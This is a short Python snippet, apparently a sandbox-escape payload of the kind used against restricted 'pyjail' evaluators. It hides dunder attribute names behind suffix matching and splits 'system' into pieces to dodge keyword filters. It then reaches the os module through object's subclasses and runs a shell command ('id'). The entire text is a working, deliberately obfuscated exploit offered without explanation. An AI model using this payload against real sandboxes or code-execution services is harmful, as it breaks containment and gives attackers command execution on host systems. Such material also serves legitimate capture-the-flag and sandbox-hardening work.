pick = lambda ns, tail: [v for k, v in vars(ns).items() if k.endswith(tail)][0]
subs = pick(type, "subclasses__")(object)
wc = [c for c in subs if c.__name__ == "_wrap_close"][0]
g = pick(type(pick), "globals__").__get__(wc.__init__)
g["sys" + "tem"]("id")
